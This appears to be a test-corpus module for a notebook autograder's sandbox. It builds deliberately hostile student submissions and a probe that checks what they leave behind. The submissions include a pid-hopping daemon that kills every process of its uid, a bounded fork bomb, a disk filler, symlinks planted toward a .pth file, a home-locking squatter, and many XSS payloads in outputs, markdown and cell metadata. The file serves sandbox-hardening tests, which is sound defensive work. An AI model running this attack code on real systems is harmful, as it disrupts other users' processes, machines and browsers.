"""Submissions that attack the sandbox and the feedback (issue 10), one or more per class of attack.

Each is a submission of ``mini`` like the rest of the corpus, with the outcome
a fair grader gives it: every one answers correctly, so any lost point is the
grader's failure. They run in the same batch as the innocent cases, whose
outcomes must not change. Their names put them first (``aa_`` ... ``ae_``):
in a batch they are graded before the innocent submissions, on the same
workers and so under the same kernel uids; ``zz_heir`` is graded last and
looks for anything they left.

1. Reach outside and outlive the kernel: ``aa_lurker`` leaves a daemon
   (new session, a new pid every 20 ms) that, once its kernel is gone, kills every
   process of its uid it can reach (the next kernel on its worker, unless
   processes are contained); leaves files in ``/tmp``, ``/dev/shm`` and ``~``
   and a System V shared memory segment for the next submission; and forks
   ``sleep`` processes until refused (a fork bomb, bounded).
   ``ab_disk_filler`` writes many small files and large ones wherever it can.
   ``zz_heir`` looks for all of it, for other processes, for the grader's
   checkout and the course, and for network interfaces, and prints what it
   found (tests/test_grading_e2e.py checks that it found nothing).
2. Turn root's set-up against the machine: ``ac_planter`` plants links where
   the grader's set-up used to write as root (the kernel's connection file,
   font cache and socket folder in its home, its working folder), pointing at
   a file outside the course and at a ``.pth`` file in the Python environment,
   then kills its kernel, so that a second attempt starts where it left off.
3. Make the sandbox fail open: ``ae_squatter`` puts folders where the
   kernel's connection file goes and locks its home, then kills its kernel
   (the grader's own failure to isolate is tested in tests/test_sandbox.py).
4. Attack through feedback: ``ad_feedback_xss`` displays HTML, JavaScript, SVG,
   Markdown, images and widget state meant to run in the browser of whoever
   opens its feedback, adds a markdown cell with a script and writes files
   next to its notebook; nothing of it may run or be copied.

Every hostile step runs only inside the grader's sandbox (a kernel uid from
``sandbox.KERNEL_UID_BASE``): run without root, where kernels run as the
person running the tests, these cases only answer, and touch nothing of
theirs. The corpus is graded with the small sandbox limits of
:data:`CORPUS_SANDBOX_LIMITS` (see :func:`corpus_sandbox_limits`).
"""

from __future__ import annotations

import contextlib
import json
import sysconfig
from pathlib import Path

import nbformat

from regcourse.grading.model import Status

#: Sandbox limits for the corpus (module constants of ``regcourse.grading.sandbox``): small, so that the
#: fork bomb and the disk filler reach them in a second, with room for a NumPy kernel's own threads.
CORPUS_SANDBOX_LIMITS = {"KERNEL_MAX_PROCESSES": 200, "KERNEL_MAX_DISK_BYTES": 48 * 2**20, "KERNEL_MAX_FILES": 1500}
#: What the corpus' fork bomb asks for at most (above the limit: it must be refused).
FORK_BOMB_PROCESSES = 320
#: Markers the hostile cases write into files; built at run time (never in a cell's source, which feedback shows).
WRITTEN_MARKER = "wrote-by-kernel"
#: The .pth file a planted link would have created in the Python environment (root writing through it).
PTH_PROBE = Path(sysconfig.get_paths()["purelib"]) / "zz_regcourse_sandbox_probe.pth"
#: The file outside the course that planted links point at; the builder creates it with this mode.
OUTSIDE_TARGET_MODE = 0o640

IN_SANDBOX = "__import__('os').getuid() >= 0x70000000"  # a kernel uid of regcourse.grading.sandbox
_MARK = "'-'.join(['wrote', 'by', 'kernel'])"


def outside_target(course: Path) -> Path:
    """A file beside the course (not in it): the planted links point here."""
    return course.parent / "outside" / "target.txt"


LURKER = f'''import ctypes, os, subprocess, sys
if {IN_SANDBOX}:
    print("kernel uid", os.getuid())
    mark = {_MARK}
    for place in ("/dev/shm", "/tmp", os.path.expanduser("~")):
        try:
            with open(os.path.join(place, "lurker-bait.txt"), "w") as bait:
                bait.write(mark)
            os.chmod(os.path.join(place, "lurker-bait.txt"), 0o666)
        except OSError as error:
            print("no bait in", place, type(error).__name__)
    print("System V segment:", ctypes.CDLL(None).shmget(0x5EED, 4096, 0o1666))  # IPC_CREAT | 0666
    # Outlives this kernel, changing pid all the time (a sweep by pid misses it); once the kernel is gone,
    # kills every process of this uid it can reach: the next kernel on this worker.
    daemon = """
import os, signal, time
kernel, end = %d, time.time() + 90
while time.time() < end:
    if os.fork():
        os._exit(0)
    try:
        os.kill(kernel, 0)
    except ProcessLookupError:
        os.kill(-1, signal.SIGKILL)  # not this process, nor one it cannot signal
    except PermissionError:
        pass
    time.sleep(0.02)
""" % os.getpid()
    subprocess.Popen([sys.executable, "-c", daemon], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    started = []
    try:
        for _ in range({FORK_BOMB_PROCESSES}):
            started.append(subprocess.Popen(["sleep", "97"], start_new_session=True, stdin=subprocess.DEVNULL))
    except OSError as error:
        print("refused:", type(error).__name__)
    print("fork bomb started", len(started), "processes")'''

DISK_FILLER = f'''import os
if {IN_SANDBOX}:
    mark, files, written = {_MARK}, 0, 0
    try:
        for place in (".", os.path.expanduser("~"), "/tmp", "/dev/shm"):
            for i in range(1000):
                with open(os.path.join(place, f"filler-{{i}}.txt"), "w") as out:
                    out.write(mark)
                files += 1
    except OSError as error:
        print("small files stopped:", type(error).__name__)
    try:
        for i in range(200):
            with open(f"filler-{{i}}.bin", "wb") as out:
                out.write(mark.encode() * (2**20 // len(mark)))
            written += 2**20
    except OSError as error:
        print("large files stopped:", type(error).__name__)
    print("disk filler wrote", files, "files and", written // 2**20, "MiB")'''


def _planter(course: Path) -> str:
    target, pth = str(outside_target(course)), str(PTH_PROBE)
    outside = str(outside_target(course).parent)
    return f'''import os, shutil
if {IN_SANDBOX}:
    def plant(path, goal):
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path)
        elif os.path.lexists(path):
            os.unlink(path)
        os.symlink(goal, path)
    home = os.path.expanduser("~")
    # where the grader's set-up wrote as root: the connection file, the font cache, the socket folder
    plant(os.path.join(home, "kernel.json"), {pth!r})
    plant(os.path.join(home, "mpl"), {outside!r})
    plant(os.path.join(home, "run"), {outside!r})
    plant("planted", {target!r})
    plant("notes.pth", {pth!r})
os._exit(0)  # a second attempt starts where this one left off'''


SQUATTER = f'''import os, shutil
if {IN_SANDBOX}:
    home = os.path.expanduser("~")
    for path in (os.path.join(home, "kernel.json"), os.path.join(home, "run", "kernel.json")):
        if os.path.lexists(path) and not os.path.isdir(path):
            os.unlink(path)
        os.makedirs(os.path.join(path, "stuck"), exist_ok=True)  # a folder where the connection file goes
    os.chmod(home, 0o500)
os._exit(0)  # a second attempt starts where this one left off'''


FEEDBACK_XSS = f'''import os
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<b>bold-from-student</b><script>document.title='owned'</script><img src=x onerror=alert(1)>"
             "<a href='javascript:alert(2)'>link-from-student</a><iframe src='https://example.invalid/'></iframe>"
             "<style>body {{display: none}}</style><img src='https://example.invalid/track.png'>"))
display(Javascript("document.body.innerHTML = 'owned'"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><script>alert(3)</script>'
            '<rect width="8" height="8" onload="alert(4)"/></svg>'))
display(Markdown("md-output-from-student <img src=x onerror=alert(5)> <script>alert(6)</script>"))
display({{"image/png": 'x" onerror="alert(7)', "text/plain": "broken image"}}, raw=True,
        metadata={{"image/png": {{"width": '1" onload="alert(8)'}}}})
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2}},
         "text/latex": "$\\\\href{{javascript:alert(9)}}{{x}}$"}}, raw=True)
class Shown:
    def _repr_html_(self):
        return "<div onmouseover=alert(10)>repr-from-student</div>"
display(Shown())
try:
    import comm
    comm.create_comm(target_name="jupyter.widget", data={{"state": {{
        "_model_name": "HTMLModel", "_model_module": "@jupyter-widgets/controls", "_model_module_version": "2.0.0",
        "value": "<img src=x onerror=alert(11)>"}}, "buffer_paths": []}}, metadata={{"version": "2.1.0"}})
except Exception as error:
    print("no comm:", type(error).__name__)
mark = {_MARK}
os.makedirs("assets", exist_ok=True)
for name in ("feedback-bait.html", "notes.txt", "assets/bait.js"):
    with open(name, "w") as out:
        out.write(f"<script>alert('{{mark}}')</script>")'''

XSS_MARKDOWN_CELL = ("My notes <script>alert('md-cell')</script><img src=x onerror=alert(12)> "
                     "**md-cell-from-student** [click](javascript:alert(13))")


def _heir(course: Path) -> str:
    from regcourse.grading import sandbox

    checkout = sandbox.grader_checkout() or str(Path(__file__).resolve().parents[2])
    return f'''import json, os, socket
found = {{}}
found["bait"] = [p for p in ("/dev/shm/lurker-bait.txt", "/tmp/lurker-bait.txt",
                             os.path.expanduser("~/lurker-bait.txt")) if os.path.exists(p)]
found["shared memory"] = sorted(set(os.listdir("/dev/shm")) & {{"lurker-bait.txt"}})
try:
    with open("/proc/sysvipc/shm") as segments:
        found["System V"] = [line.split()[0] for line in segments.read().splitlines()[1:]
                             if line.split() and line.split()[0] == str(0x5EED)]
except OSError:
    found["System V"] = []
pids = [int(n) for n in os.listdir("/proc") if n.isdigit()]
found["other processes"] = [p for p in pids if p not in (os.getpid(), 1, os.getppid())]
found["checkout"] = [p for p in ("README.md", "pyproject.toml", "solutions", "tests") if
                     os.path.exists(os.path.join({checkout!r}, p))]
found["course"] = [p for p in ("gradebook.db", "solutions", "submitted", "source") if
                   os.path.exists(os.path.join({str(course)!r}, p))]
found["network"] = sorted(name for _, name in socket.if_nameindex() if name != "lo")
found["home"] = sorted(n for n in os.listdir(os.path.expanduser("~")) if n not in ("mpl", "kernel.json", ".ipython", ".cache"))
print("heir found:", json.dumps(found, sort_keys=True))'''


def _xss_notebook(course: Path):
    from grading_corpus import CORRECT_L1, student_notebook

    nb = student_notebook(course, l1_penalty=FEEDBACK_XSS + "\n\n" + CORRECT_L1)
    nb.cells.append(nbformat.v4.new_markdown_cell(XSS_MARKDOWN_CELL))
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "l1_penalty":
            cell.metadata["tags"] = ['x" onmouseover="alert(14)']
    return nb


def _after_l2(course: Path, extra: str):
    from grading_corpus import CORRECT_L1, student_notebook

    return student_notebook(course, l1_penalty=extra + "\n\n" + CORRECT_L1)


def _writer(make):
    def build(course: Path, target: Path) -> None:
        from grading_corpus import NOTEBOOK

        nbformat.write(make(course), target / NOTEBOOK)

    return build


def _build_planter(course: Path, target: Path) -> None:
    outside = outside_target(course)
    outside.parent.mkdir(parents=True, exist_ok=True)
    outside.write_text("not for students\n")
    outside.chmod(OUTSIDE_TARGET_MODE)
    _writer(lambda c: _after_l2(c, _planter(c)))(course, target)


def cases():
    """The cases, in the corpus' Case form (imported lazily: grading_corpus imports this module)."""
    from grading_corpus import Case, Expected

    graded = Expected(Status.GRADED, 3.0)
    return [
        Case("aa_lurker", "leaves a uid-wide killer daemon, files in /tmp, /dev/shm and ~, a System V segment, "
             "and forks until refused: all of it ends with its kernel", _writer(lambda c: _after_l2(c, LURKER)),
             graded),
        Case("ab_disk_filler", "writes small files and large ones everywhere until refused: bounded, and none "
             "reaches the course folder or the feedback", _writer(lambda c: _after_l2(c, DISK_FILLER)), graded),
        Case("ac_planter", "plants links where root used to write (to a file outside, to a .pth file in the "
             "Python environment), then kills its kernel: a second attempt follows none", _build_planter,
             Expected(Status.LIMIT_EXCEEDED, 1.0, {"test_l2_norm": 1.0, "test_l1_penalty": 0.0},
                      message_words=("kernel",))),
        Case("ae_squatter", "puts folders where the kernel's connection file goes and locks its home, then kills "
             "its kernel: the second attempt is isolated afresh, never unisolated",
             _writer(lambda c: _after_l2(c, SQUATTER)),
             Expected(Status.LIMIT_EXCEEDED, 1.0, {"test_l2_norm": 1.0, "test_l1_penalty": 0.0},
                      message_words=("kernel",))),
        Case("ad_feedback_xss", "displays scripts, event handlers, SVG, Markdown, forged images and widget state, "
             "adds a scripted markdown cell, writes files: its feedback shows them inert, copies none",
             _writer(_xss_notebook), graded),
        Case("zz_heir", "graded last: looks for what the others left, for other processes, the checkout, the "
             "course and the network, and prints it", _writer(lambda c: _after_l2(c, _heir(c))), graded),
    ]


@contextlib.contextmanager
def corpus_sandbox_limits():
    """The sandbox's limits set to :data:`CORPUS_SANDBOX_LIMITS` while grading the corpus (in this process,
    where the engine reads them for each kernel)."""
    import pytest

    from regcourse.grading import sandbox

    with pytest.MonkeyPatch.context() as patch:
        for name, value in CORPUS_SANDBOX_LIMITS.items():
            patch.setattr(sandbox, name, value)
        yield


def printed(course: Path, student: str) -> str:
    """Everything the student's cells printed, from the graded notebook."""
    from grading_corpus import ASSIGNMENT, NOTEBOOK

    nb = nbformat.read(course / "autograded" / student / ASSIGNMENT / NOTEBOOK, 4)
    return "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []) if o.get("output_type") == "stream")


def heir_findings(course: Path) -> dict:
    line = next(line for line in printed(course, "zz_heir").splitlines() if line.startswith("heir found:"))
    return json.loads(line.split(":", 1)[1])
